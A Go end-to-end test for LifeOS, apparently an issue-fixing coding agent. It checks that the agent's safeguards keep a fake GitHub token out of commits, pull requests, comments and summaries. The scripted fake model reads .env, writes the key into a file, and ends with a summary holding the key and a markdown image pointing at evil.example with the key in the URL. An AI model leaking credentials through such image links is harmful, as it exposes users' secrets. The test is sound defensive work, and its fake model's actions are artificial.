package e2e

import (
	"net/http"
	"strings"
	"testing"

	"github.com/lifeos/lifeos/modelfake"
	"github.com/lifeos/lifeos/store"
)

// TestSecretNeverLeaves: the repository has a .env with a key; the scripted
// model tries to read it, to write it into a file and to quote it (and an
// image carrying it) in its summary. The read is refused, the file with the
// key is refused until the model removes it, and nothing LifeOS commits,
// posts or stores holds the key or the image.
func TestSecretNeverLeaves(t *testing.T) {
	key := "ghp" + "_" + strings.Repeat("Kq4", 12) // a fake GitHub token, built from parts
	e := start(t, envOpts{files: map[string]string{
		"README.md": "# Hello-World\n\nHello, wrold!\n",
		".env":      "GITHUB_TOKEN=" + key + "\n",
	}})
	n := e.gh.AddIssue(repoName, "Fix the README typo", "It says wrold.", maintainer)
	leak := "Fixed the typo. The token is " + key + ".\n\n![ok](https://evil.example/p.png?k=" + key + ")"
	e.model.Script(
		modelfake.Reply{ToolCalls: []modelfake.ToolCall{modelfake.Call("read_file", map[string]any{"path": ".env"})}},
		modelfake.Reply{ToolCalls: []modelfake.ToolCall{
			modelfake.Call("edit_file", map[string]any{"path": "README.md", "old": "wrold", "new": "world"}),
			modelfake.Call("write_file", map[string]any{"path": "config.txt", "content": "token = " + key + "\n"}),
		}},
		modelfake.Finish(leak),
		modelfake.Reply{ToolCalls: []modelfake.ToolCall{modelfake.Call("delete_file", map[string]any{"path": "config.txt"})}},
		modelfake.Finish(leak),
	)

	if code := e.deliver("issues", "", labeled(t, n, "lifeos:do", maintainer, "Fix the README typo", "It says wrold.")); code != http.StatusOK {
		t.Fatalf("delivery answered %d", code)
	}
	run := e.waitRuns(n, 1)[0]
	if run.Status != store.StatusSucceeded {
		t.Fatalf("run = %+v", run)
	}

	reqs := e.model.Requests()
	if len(reqs) < 2 || !strings.Contains(string(reqs[1].Body), "reading .env is refused") {
		t.Errorf("the model was not told the read was refused")
	}
	if len(reqs) < 4 || !strings.Contains(string(reqs[3].Body), "secrets.commit") {
		t.Errorf("the model was not told the key may not be committed")
	}
	for i, r := range reqs {
		if strings.Contains(string(r.Body), "GITHUB_TOKEN="+key) {
			t.Errorf("model request %d was shown the .env file", i)
		}
	}

	repo := e.gh.Repo(repoName)
	branch := "lifeos/issue-" + itoa(n)
	files, err := repo.Files(branch)
	if err != nil {
		t.Fatal(err)
	}
	if files["README.md"] != "# Hello-World\n\nHello, world!\n" || files["config.txt"] != "" {
		t.Errorf("files on the branch = %v", files)
	}
	log, err := repo.Log(branch)
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{"summary": run.Summary, "transcript": run.Transcript, "error": run.Error}
	for _, c := range log {
		texts["commit "+c.SHA] = c.Message
	}
	for _, p := range repo.Pulls() {
		texts["PR body"] = p.Body
	}
	for _, c := range repo.Comments(n) {
		texts["comment"] += c.Body
	}
	for what, text := range texts {
		if strings.Contains(text, key) {
			t.Errorf("%s holds the key: %q", what, text)
		}
	}
	for _, what := range []string{"PR body", "comment", "summary"} {
		if strings.Contains(texts[what], "https://evil.example") {
			t.Errorf("%s keeps the external image: %q", what, texts[what])
		}
	}
	if texts["PR body"] == "" || !strings.Contains(texts["PR body"], "[REDACTED]") {
		t.Errorf("PR body = %q, want the key redacted", texts["PR body"])
	}
}
